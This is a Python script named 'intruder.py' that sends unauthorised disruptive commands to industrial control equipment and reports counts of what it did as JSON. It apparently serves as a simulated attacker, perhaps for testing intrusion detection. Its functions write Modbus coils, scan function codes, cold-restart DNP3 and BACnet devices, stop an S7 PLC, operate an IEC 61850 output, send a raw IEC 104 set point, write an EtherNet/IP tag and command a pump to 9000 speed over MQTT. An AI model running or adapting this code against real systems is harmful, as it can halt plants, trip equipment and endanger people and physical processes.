"""A station that nobody listed does one harm to each server. Usage: intruder.py PAUSE SERVER=ADDRESS...

Prints as JSON what it did, with how often.
"""
import asyncio
import json
import os
import socket
import struct
import sys
import time

import paho.mqtt.client as mqtt
from cpppo.server.enip import client as cip
from dnp3.application.builder import build_cold_restart_request
from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
from iec61850._native import IedConnection
from pymodbus.client import ModbusTcpClient
from pysparkplug import DCmd, DataType, Metric, get_current_timestamp
from snap7.client import Client


def write_coil(plc):
    client = ModbusTcpClient(plc, port=502)
    client.connect()
    client.write_coil(3, True, device_id=1)
    client.close()
    return {"coils_written": 1}


def scan_functions(plc):
    """Every public function code with an empty body: raw, since no client library sends such requests."""
    functions = [*range(1, 25), 43, 65, 100]
    with socket.create_connection((plc, 502), timeout=2) as scan:
        for number, function in enumerate(functions):
            scan.sendall(struct.pack("!HHHBB", number, 0, 2, 1, function))
            scan.settimeout(0.2)
            try:
                scan.recv(512)
            except TimeoutError:
                pass
    return {"functions_scanned": len(functions)}


def cold_restart(outstation):
    async def ask():
        master = Master(handler=DefaultSOEHandler(), config=MasterConfig(address=99, outstation_address=10))
        async with MasterTcpRunner(master=master, host=outstation, port=20000) as runner:
            await runner.send(build_cold_restart_request(seq=1))
            await asyncio.sleep(1)

    asyncio.run(ask())
    return {"cold_restarts": 1}


def stop(controller):
    client = Client()
    client.connect(controller, 0, 2)
    client.plc_stop()
    client.disconnect()
    return {"stops": 1}


def reinitialize(ventilation):
    """Asks a BACnet device for a cold start; whether it obeys is its own affair, but it answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(bytes.fromhex("810a000c 0104 00050114 0900"), (ventilation, 47808))
        udp.recv(512)
    return {"reinitialized": 1}


def operate(ied):
    async def command():
        connection = await IedConnection.connect(f"{ied}:102", timeout_ms=30000)
        output = connection.create_control_object("IED1LD0/GGIO2.SPCSO1", "direct-normal")
        output.set_origin(3, b"intruder")
        await output.operate(False)
        await connection.disconnect()

    asyncio.run(command())
    return {"operated": 1}


def set_point(rtu):
    """Starts the transfer and commands a set point: raw, for a library's thread would outlive it."""
    with socket.create_connection((rtu, 2404), timeout=30) as line:
        for said, awaited in (("680407000000", 6), ("681200000000 3201 0600 2f00 0d0000 0000c843 00", 20)):
            line.sendall(bytes.fromhex(said))
            line.recv(awaited, socket.MSG_WAITALL)
    return {"set_points": 1}


def write_tag(line):
    with cip.connector(host=line, timeout=30) as session:
        for _ in session.synchronous(operations=cip.parse_operations(["COUNT[2]=(DINT)99"]), timeout=30):
            pass
    return {"tags_written": 1}


def command_pump(broker):
    client = mqtt.Client("intruder")
    client.username_pw_set("intruder", "intruder")
    client.connect(broker)
    metric = Metric(get_current_timestamp(), "Speed", DataType.INT32, value=9000)
    command = DCmd(timestamp=get_current_timestamp(), metrics=[metric]).encode(include_dtypes=True)
    published = client.publish("spBv1.0/Plant/DCMD/Edge/Pump", command, qos=1)
    while not published.is_published():
        client.loop(0.2)
    client.disconnect()
    client.loop(0.2)
    return {"pumps_commanded": 1}


DEEDS = (
    ("plc", write_coil), ("plc", scan_functions), ("outstation", cold_restart), ("controller", stop),
    ("ventilation", reinitialize), ("ied", operate), ("rtu", set_point), ("line", write_tag), ("broker", command_pump),
)
pause, servers = float(sys.argv[1]), dict(argument.split("=") for argument in sys.argv[2:])
done = {}
for number, (server, deed) in enumerate(DEEDS):
    if number > 0:
        time.sleep(pause)
    done |= deed(servers[server])
# The library of the IED has threads that may still call into an interpreter that winds up.
print(json.dumps(done), flush=True)
os._exit(0)
